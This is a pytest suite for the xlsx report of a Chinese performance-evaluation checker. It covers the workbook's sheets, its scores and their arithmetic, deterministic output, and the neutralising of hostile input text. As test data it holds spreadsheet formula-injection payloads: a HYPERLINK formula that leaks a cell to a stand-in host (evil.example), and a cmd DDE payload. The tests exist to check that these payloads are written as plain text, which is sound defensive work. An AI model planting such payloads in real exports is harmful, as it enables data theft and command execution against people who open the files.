"""``--format xlsx`` (``-o 结果.xlsx``): the workbook's sheets (汇总, 评分表, 发现, 读取说明),
scores as numbers with their arithmetic beside them, findings in JSON's order, text from
inputs never a formula or a control character, the same bytes for the same run."""

from __future__ import annotations

import io
import json
import os
import zipfile
from decimal import Decimal
from pathlib import Path
from types import SimpleNamespace

import openpyxl
import pytest
from openpyxl.styles import Alignment, Font
from click.testing import CliRunner
from hypothesis import given, settings, strategies as st

from perfrules.cli import main
from perfrules.report import xlsx
from perfrules.report.writer import Footer

ROOT = Path(__file__).resolve().parent.parent
EX = ROOT / "examples" / "panyu-2023-ops"
OLD_XLS = ROOT / "tests" / "loaders" / "broken" / "old.xls"
ARGS = (EX / "评价.yaml", EX / "申报.yaml", "-p", "panyu-project-2023")


def cli(*args):
    return CliRunner().invoke(main, [str(a) for a in args])


def rows(ws):
    return [list(r) for r in ws.iter_rows(values_only=True)]


def column(ws, header):
    """The 0-based index of a column by its header."""
    return [c.value for c in ws[1]].index(header)


@pytest.fixture(scope="module")
def report(tmp_path_factory):
    """The panyu evaluation and declaration as a workbook, and the same run as JSON."""
    out = tmp_path_factory.mktemp("xlsx") / "report.xlsx"
    r = cli("check", *ARGS, "-o", out)
    assert r.exit_code == 1, r.output  # errors found: exit 1, the workbook written
    j = cli("check", *ARGS, "--format", "json")
    return out, json.loads(j.stdout)


def test_the_workbook_has_its_four_sheets_headers_bold_and_frozen(report):
    wb = openpyxl.load_workbook(report[0])
    assert wb.sheetnames == ["汇总", "评分表", "发现", "读取说明"]
    for ws in wb.worksheets:
        assert [c.value for c in ws[1]] == [h for h, _ in xlsx.COLUMNS[ws.title]]
        assert all(c.font.b for c in ws[1])
        assert ws.freeze_panes == "A2"
        assert ws.column_dimensions["A"].width > 10


def test_the_total_is_a_number_and_the_grade_is_on_the_total_row(report):
    ws = openpyxl.load_workbook(report[0])["评分表"]
    item, score, grade = column(ws, "评分项"), column(ws, "得分"), column(ws, "等级")
    total = next(r for r in ws.iter_rows(min_row=2) if r[item].value == "合计")
    assert total[score].data_type == "n" and total[score].value == pytest.approx(87.38)
    assert total[score].number_format == "0.00"
    assert total[column(ws, "分值")].value == 100
    assert total[grade].value == "良"
    assert total[item].font.b


def test_the_execution_rate_item_shows_its_score_and_its_arithmetic(report):
    ws = openpyxl.load_workbook(report[0])["评分表"]
    row = next(r for r in ws.iter_rows(min_row=2) if r[column(ws, "评分项")].value == "项目管理/财务管理/支出完成率")
    assert row[column(ws, "得分")].data_type == "n"
    assert row[column(ws, "得分")].value == pytest.approx(4.88)
    assert row[column(ws, "扣分")].value == pytest.approx(3.12)
    text = row[column(ws, "扣分说明")].value
    assert text.startswith("扣3.12 [")
    assert "执行率 = 支出 428.54 ÷ 年度预算 507.74 = 84.40%" in text
    assert "得分 = (84.40% − 60%) ÷ (100% − 60%) × 8 = 4.88" in text
    assert row[column(ws, "状态")].value == "已评分"


def test_findings_are_json_s_findings_in_json_s_order_with_a_filter(report):
    out, data = report
    ws = openpyxl.load_workbook(out)["发现"]
    body = rows(ws)[1:]
    expected = [(d["input"], f["rule"], f["severity"]) for d in data for f in d["findings"]]
    zh = {"veto": "否决", "error": "错误", "warning": "警告", "info": "提示"}
    got = [(r[column(ws, "输入")], r[column(ws, "规则")], r[column(ws, "级别")]) for r in body]
    assert got == [(i, rule, zh[sev]) for i, rule, sev in expected]
    assert ws.auto_filter.ref == f"A1:O{len(body) + 1}"
    # a finding placed in its input keeps its row as a number
    rc = next(r for r in body if r[column(ws, "规则")] == "RC-02")
    assert isinstance(rc[column(ws, "行")], int)


def test_the_summary_has_a_row_per_input_with_counts_by_severity(report):
    out, data = report
    ws = openpyxl.load_workbook(out)["汇总"]
    body = rows(ws)[1:]
    assert [r[0] for r in body] == [d["input"] for d in data]
    evaluation = body[0]
    assert evaluation[column(ws, "总分")] == pytest.approx(87.38)
    assert evaluation[column(ws, "满分")] == 100
    assert evaluation[column(ws, "等级")] == "良"
    counts = [evaluation[column(ws, h)] for h in ("否决", "错误", "警告", "提示")]
    live = [f["severity"] for f in data[0]["findings"] if "waived" not in f]
    assert counts == [live.count(s) for s in ("veto", "error", "warning", "info")]


def test_two_runs_give_the_same_bytes_and_no_clock_in_the_file(tmp_path):
    a, b = tmp_path / "a.xlsx", tmp_path / "b.xlsx"
    assert cli("check", *ARGS, "-o", a).exit_code == 1
    assert cli("check", *ARGS, "-o", b).exit_code == 1
    assert a.read_bytes() == b.read_bytes()
    wb = openpyxl.load_workbook(a)
    assert wb.properties.created.year == wb.properties.modified.year == 1980
    with zipfile.ZipFile(a) as z:
        assert {i.date_time for i in z.infolist()} == {xlsx.ZIP_TIME}


def test_worker_processes_write_the_same_workbook(tmp_path):
    """Each entry's rows are made in a worker (-j 2) and cross to the parent: same bytes."""
    a, b = tmp_path / "a.xlsx", tmp_path / "b.xlsx"
    assert cli("check", *ARGS, "-o", a).exit_code == 1
    assert cli("check", *ARGS, "-j", "2", "-o", b).exit_code == 1
    assert a.read_bytes() == b.read_bytes()


# ---- text from inputs --------------------------------------------------------------------------

INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")'
HOSTILE = ("项目: {名称: '" + INJECTION.replace("'", "''") + "', 年度: 2023, 类别: [信息化运维]}\n"
           "绩效指标:\n"
           "  - {一级指标: 产出指标, 二级指标: 数量指标, 三级指标: '=1+2', 指标值: 提高效率, 计算方法: '@SUM(A1:A9)'}\n"
           "  - {一级指标: 效益指标, 二级指标: 社会效益指标, 三级指标: '+cmd', 指标值: '-2+3', 计算方法: '#N/A'}\n")


def test_text_from_an_input_is_never_a_formula(tmp_path):
    src = tmp_path / "恶意.yaml"
    src.write_text(HOSTILE, encoding="utf-8")
    out = tmp_path / "r.xlsx"
    r = cli("check", src, "-o", out)
    assert r.exit_code in (0, 1), r.output
    wb = openpyxl.load_workbook(out)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert all(c.data_type in ("s", "n") for c in cells)
    named = [c for c in cells if c.value == INJECTION]
    assert named, "the project's name is in the workbook, as it is"
    assert all(c.data_type == "s" and c.quotePrefix for c in named)
    with zipfile.ZipFile(out) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name)


def _write(tmp_path, outcomes, footer=None):
    out = tmp_path / "w.xlsx"
    w = xlsx.Writer(str(out))
    for o in outcomes:
        w.add(o)
    w.finish(footer)
    return out, w


def _error(source, message):
    o = SimpleNamespace(kind="error", input=source, message=message, result=None)
    o.text = xlsx.entry(o)
    return o


def test_controls_in_text_are_shown_not_written(tmp_path):
    out, w = _write(tmp_path, [_error("a\x00b\u202e.yaml", "=cmd|' /C calc'!A0\x1b[2J\x07 _x0041_ \ufffe")])
    assert w.n == 1
    ws = openpyxl.load_workbook(out)["汇总"]
    source, message = ws["A2"], ws[f"{chr(64 + column(ws, '说明') + 1)}2"]
    assert source.value == "a\u2400b<U+202E>.yaml"
    assert "\x1b" not in message.value and "\u241b[2J\u2407" in message.value
    assert "_x005F_x0041_" in message.value and "<U+FFFE>" in message.value
    assert message.data_type == "s"


# What Writer._cell reads of its writer, and a sheet to make cells for (nothing is written).
CELLS = SimpleNamespace(bold=Font(bold=True), wrap=Alignment(wrap_text=True), top=Alignment(),
                        ws=openpyxl.Workbook(write_only=True).create_sheet("t"))


@settings(max_examples=max(25, settings().max_examples // 2))  # each example saves and reads a workbook
@given(st.text(st.characters(codec="utf-8") | st.sampled_from("\x00\x07\x1b\r\t\n\ud800\ufffe=+-@_x")))
def test_any_text_is_written_as_the_text_safe_text_makes(text):
    """Whatever an input holds, its cell is text (never a formula or an error value), holds
    what safe_text shows, and reads back as that."""
    cell = xlsx.Writer._cell(CELLS, CELLS.ws, text, "说明", False)
    if text == "":
        assert cell is None
        return
    assert cell.data_type == "s" and cell.value == xlsx.safe_text(text)
    assert not xlsx._ILLEGAL.search(cell.value) and not xlsx._XML_BAD.search(cell.value)
    book = openpyxl.Workbook()
    book.active.cell(1, 1).value = cell.value
    book.active.cell(1, 1).data_type = "s"
    buf = io.BytesIO()
    book.save(buf)
    back = openpyxl.load_workbook(io.BytesIO(buf.getvalue())).active.cell(1, 1)
    assert back.data_type == "s" and back.value == cell.value


def test_numbers_keep_their_places():
    assert xlsx.number_format(Decimal("4.88")) == "0.00"
    assert xlsx.number_format(Decimal("3.50")) == "0.00"
    assert xlsx.number_format(Decimal("100")) == "0"
    assert xlsx.number_format(Decimal("0.125")) == "0.000"


# ---- inputs not read, files skipped, the footer ------------------------------------------------

def test_inputs_not_read_are_listed_with_why_and_the_footer_follows(tmp_path):
    out = tmp_path / "r.xlsx"
    r = cli("check", OLD_XLS, EX / "申报.yaml", "-p", "panyu-project-2023", "-o", out)
    assert r.exit_code == 2
    ws = openpyxl.load_workbook(out)["汇总"]
    body = rows(ws)[1:]
    why = column(ws, "说明")
    assert body[0][0] == str(OLD_XLS) and body[0][why].startswith("无法读取")
    assert "xls" in body[0][why]
    assert body[1][0] == str(EX / "申报.yaml")
    assert any(r[0] == "汇总 (summary)" for r in body)
    assert any(isinstance(r[0], str) and r[0].startswith("共 2 个项目") for r in body)


def test_a_skipped_file_is_listed_once(tmp_path):
    skipped = SimpleNamespace(kind="skipped", input="说明.txt", message="说明.txt: 跳过 不是指标表的格式", result=None)
    skipped.text = xlsx.entry(skipped)
    note = SimpleNamespace(where=SimpleNamespace(file="说明.txt"), kind="skipped_file", zh="不是指标表", en="not",
                           suggestion=None, unread=True)
    out, w = _write(tmp_path, [_error("a.yaml", "坏了"), skipped], Footer(("共 1 个项目",), (note,)))
    assert w.n == 1  # a skipped file is no entry of its own
    body = rows(openpyxl.load_workbook(out)["汇总"])[1:]
    assert [r[0] for r in body].count("说明.txt") == 1


def test_abort_writes_nothing(tmp_path):
    out = tmp_path / "w.xlsx"
    w = xlsx.Writer(str(out))
    w.add(_error("a.yaml", "坏了"))
    w.abort(interrupted=True)
    assert not out.exists()
    assert not [n for n in os.listdir(tmp_path) if n.startswith(".w.xlsx")]


# ---- the command line ----------------------------------------------------------------------

def test_an_xlsx_name_with_another_format_is_exit_2(tmp_path):
    out = tmp_path / "x.xlsx"
    r = cli("check", *ARGS, "-o", out, "--format", "json")
    assert r.exit_code == 2
    assert "xlsx" in r.stderr and "json" in r.stderr
    assert not out.exists()


def test_xlsx_without_an_output_file_is_exit_2():
    r = cli("check", *ARGS, "--format", "xlsx")
    assert r.exit_code == 2
    assert "-o" in r.stderr
    assert r.stdout == ""


def test_show_na_adds_the_sheet_of_rules_not_applicable(tmp_path):
    out = tmp_path / "r.xlsx"
    assert cli("check", *ARGS, "--show-na", "-o", out).exit_code == 1
    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames[-1] == "不适用"
    assert wb["不适用"].max_row > 1
